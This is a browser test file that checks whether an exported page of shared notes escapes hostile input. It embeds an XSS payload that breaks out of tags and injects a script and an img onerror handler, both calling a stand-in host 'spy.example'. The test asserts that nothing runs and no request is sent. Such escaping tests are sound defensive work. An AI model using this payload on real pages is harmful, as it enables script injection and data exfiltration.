import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Sites } from '../../cli/browsers/sites';
import { notesToHtml } from '../../utils/sharing';
import { noteOf } from '../sharing/note-of';
import { RULE_WORDS, reportOf } from '../sharing/report-of';
import { wordsOf } from '../sharing/words-of';
import { BROWSERS, openStage, type Stage } from './stage';

const PAGE = 'http://shared.example/';
const SPY = 'https://spy.example';

/** Tries to load, to send and to run. */
const EVIL = `</p></style><script>window.ran = true; fetch('${SPY}/s')</script><img src="${SPY}/i.png" onerror="window.ran = true">`;

describe.each(BROWSERS)('a page of notes handed on, in %s, without the extension', (name) => {
  let stage: Stage;
  beforeAll(async () => {
    const words = wordsOf('en', RULE_WORDS);
    const notes = [noteOf(1, { body: EVIL, target: { source: `${SPY}/page`, title: EVIL } })];
    const body = notesToHtml({ title: 'Notes', notes, report: reportOf(), at: '2026-11-22T12:00:00.000Z' }, words);
    const sites: Sites = new Map([
      ['shared.example', () => ({ headers: { 'content-type': 'text/html; charset=utf-8' }, body })],
      ['spy.example', () => ({ headers: {}, body: '' })],
    ]);
    stage = await openStage(name, { sites, extension: false });
  });
  afterAll(() => stage?.close());

  it('asks nobody for anything, runs nothing, and looks as it should', async () => {
    stage.log.clear();
    const page = await stage.visit(PAGE);
    await new Promise((resolve) => setTimeout(resolve, 2_000));
    expect(
      stage.log
        .all()
        .map(({ url }) => url)
        .filter((url) => /(shared|spy)\.example/.test(url)),
    ).toEqual([PAGE]);
    const seen = await page.evaluate(() => ({
      ran: 'ran' in window,
      width: getComputedStyle(document.querySelector('main') ?? document.body).maxWidth,
      own: document.querySelector('.own')?.textContent,
    }));
    expect(seen).toEqual({ ran: false, width: '704px', own: EVIL });
    await page.close();
  });
});
